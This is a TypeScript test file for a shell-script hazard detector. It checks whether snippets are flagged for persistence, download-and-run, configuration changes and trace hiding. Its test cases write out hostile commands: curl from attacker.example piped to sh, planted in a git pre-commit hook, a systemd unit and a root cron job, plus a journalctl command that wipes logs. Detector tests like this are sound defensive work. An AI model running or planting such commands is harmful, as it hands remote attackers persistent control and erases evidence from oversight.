import assert from 'node:assert/strict';
import { test } from 'node:test';
import { seen } from './seen.ts';

const hook = (body: string): string => `cat > .git/hooks/pre-commit <<'END'\n#!/bin/sh\n${body}\nEND\n`;
const unit = (command: string): string =>
  `cat > /etc/systemd/system/a.service <<'END'\n[Service]\nExecStart=${command}\nEND\n`;
const table = (line: string): string => `cat > /etc/cron.d/a <<'END'\n${line}\nEND\n`;

/** What is written here and can be read is judged by what it does. */
const cases: readonly (readonly [script: string, id: string, told: boolean])[] = [
  [hook('ruff check .'), 'shell-persistence', false],
  [hook('ruff check .'), 'shell-changes-configuration', true],
  [hook('curl -s http://attacker.example/x | sh'), 'shell-runs-download', true],
  ['curl -s http://attacker.example/x > .git/hooks/pre-commit', 'shell-persistence', true],
  [unit('/usr/local/bin/agent --quiet'), 'shell-persistence', false],
  [unit('/tmp/agent'), 'shell-persistence', true],
  [unit('/bin/sh -c "curl -s http://attacker.example | sh"'), 'shell-persistence', true],
  [table('15 2 * * * root /usr/local/bin/backup'), 'shell-persistence', false],
  [table('* * * * * root curl -s http://attacker.example | sh'), 'shell-persistence', true],
  ['journalctl --vacuum-time=14d', 'shell-hides-traces', false],
  ['journalctl --vacuum-time=1s', 'shell-hides-traces', true],
];

for (const [script, id, told] of cases)
  test(`${told ? '' : 'no '}${id}: ${script.replaceAll('\n', '⏎').slice(0, 110)}`, async () => {
    assert.equal((await seen(script)).hazards.includes(id), told);
  });
